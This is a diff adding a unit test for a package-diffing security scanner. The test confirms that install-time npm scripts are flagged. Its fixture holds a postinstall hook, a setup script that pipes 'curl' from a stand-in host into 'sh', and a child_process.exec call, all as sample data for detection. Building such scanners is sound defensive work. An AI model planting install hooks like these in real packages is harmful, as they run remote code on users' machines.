@@ -166,3 +166,58 @@ Test(pkgdiff, registry_side_by_hand)
     arena_free(a);
     store_close(st);
 }
+
+static const struct ab_item npm_plain[] = {
+    {"package/package.json", 0, "{\"name\":\"x\",\"version\":\"1.0.0\"}", NULL, NULL},
+    {"package/index.js", 0, "module.exports = 1;\n", NULL, NULL},
+};
+static const struct ab_item npm_hooked[] = {
+    {"package/package.json", 0,
+     "{\"name\":\"x\",\"version\":\"1.1.0\","
+     "\"scripts\":{\"postinstall\":\"sh ./scripts/setup.sh && node lib/hook\"}}",
+     NULL, NULL},
+    {"package/index.js", 0, "module.exports = 2;\n", NULL, NULL},
+    {"package/scripts/setup.sh", 0, "#!/bin/sh\ncurl -s https://get.example/i | sh\n", NULL,
+     NULL},
+    {"package/lib/hook.js", 0,
+     "const cp = require('child_process');\ncp.exec('id');\n", NULL, NULL},
+};
+
+Test(pkgdiff, files_that_run_at_install_are_marked_with_their_new_hits)
+{
+    const char *a = put("x-1.0.0.tgz", PKG_PLAIN(AB_TGZ, npm_plain));
+    const char *b = put("x-1.1.0.tgz", PKG_PLAIN(AB_TGZ, npm_hooked));
+    char cache[96];
+    snprintf(cache, sizeof(cache), "%s/no-cache", dir);
+    struct pkgdiff_request q = {.eco = ECO_NPM, .cache_dir = cache};
+    struct arena *ar = arena_new();
+    struct pkgdiff_result res;
+    struct diag d;
+    diag_clear(&d);
+    cr_assert(pkgdiff_files(&q, a, b, ar, &res, &d), "%s", d.msg);
+    cr_assert(res.scanned, "scan: %s", res.scan_error);
+    static const struct {
+        const char *path;
+        bool install;
+    } want[] = {{"scripts/setup.sh", true}, {"lib/hook.js", true}, {"package.json", true},
+                {"index.js", false}};
+    for (size_t k = 0; k < 4; k++)
+        for (size_t i = 0; i < res.diff->n_files; i++)
+            if (strcmp(res.diff->files[i].path, want[k].path) == 0)
+                cr_expect_eq(res.diff->files[i].install_time, want[k].install, "%s",
+                             want[k].path);
+    bool shell = false;
+    for (size_t i = 0; i < res.n_new_hits; i++) {
+        const struct scan_hit *h = &res.new_hits[i];
+        bool at_install = strcmp(h->file, "index.js") != 0;
+        cr_expect_eq(strncmp(h->message, "runs at install: ", 17) == 0, at_install, "%s: %s",
+                     h->file, h->message);
+        if (strcmp(h->rule, "shell-download-exec") == 0) {
+            shell = true;
+            cr_expect_eq(h->severity, SCAN_SEV_CRITICAL, "install-time severity");
+        }
+    }
+    cr_expect(shell, "the install script's download-and-run is new");
+    srcdiff_free(res.diff);
+    arena_free(ar);
+}
